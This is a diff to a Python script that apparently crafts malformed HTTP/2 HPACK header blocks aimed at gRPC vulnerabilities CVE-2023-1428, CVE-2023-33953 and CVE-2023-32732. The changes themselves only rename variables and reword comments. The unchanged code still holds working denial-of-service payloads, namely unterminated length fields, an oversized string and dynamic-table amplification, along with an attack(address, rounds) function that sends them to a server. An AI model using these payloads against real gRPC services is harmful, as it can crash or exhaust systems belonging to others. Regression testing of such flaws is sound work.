@@ -1,6 +1,6 @@
-"""Headers that broke gRPC 1.51 elsewhere, or take more than they have: of a kind that it cannot size
-(CVE-2023-1428), of strings and numbers without an end (CVE-2023-33953), in an encoding that it does
-not take (CVE-2023-32732), and a field of the table that is named many times."""
+"""Headers of known vulnerabilities of gRPC, or that expand: of a type whose size it cannot compute
+(CVE-2023-1428), strings and numbers without an end (CVE-2023-33953), an unsupported encoding
+(CVE-2023-32732), and many references to one entry of the table."""
 
 import contextlib
 
@@ -17,11 +17,11 @@ def number(value, prefix):
     most = (1 << prefix) - 1
     if value < most:
         return bytes([value])
-    value, said = value - most, [most]
+    value, encoded = value - most, [most]
     while value >= 128:
-        said.append(value % 128 + 128)
+        encoded.append(value % 128 + 128)
         value //= 128
-    return bytes([*said, value])
+    return bytes([*encoded, value])
 
 
 def field(name, value, indexed=False):
@@ -37,7 +37,7 @@ def blocks():
             yield usual + field(*bad) + pad
     yield usual + b"\0" + number(1, 7) + b"x" + number(1 << 31, 7) + b"y" * 60_000
     yield usual + b"\0" + b"\x7f" + b"\x80" * 60_000 + b"\0"
-    # 62 is the first that the table has got: 4,000 bytes each.
+    # 62 is the first dynamic entry of the table: 4,000 bytes each.
     yield usual + field(b"x-large", b"y" * 3900, indexed=True) + b"\xbe" * 50_000
 
 
@@ -56,7 +56,7 @@ def attack(address, rounds):
                     pass
             connection.close()
             sent += 1
-    return f"{sent} blocks of headers"
+    return f"{sent} header blocks"
 
 
 def check(result, size):
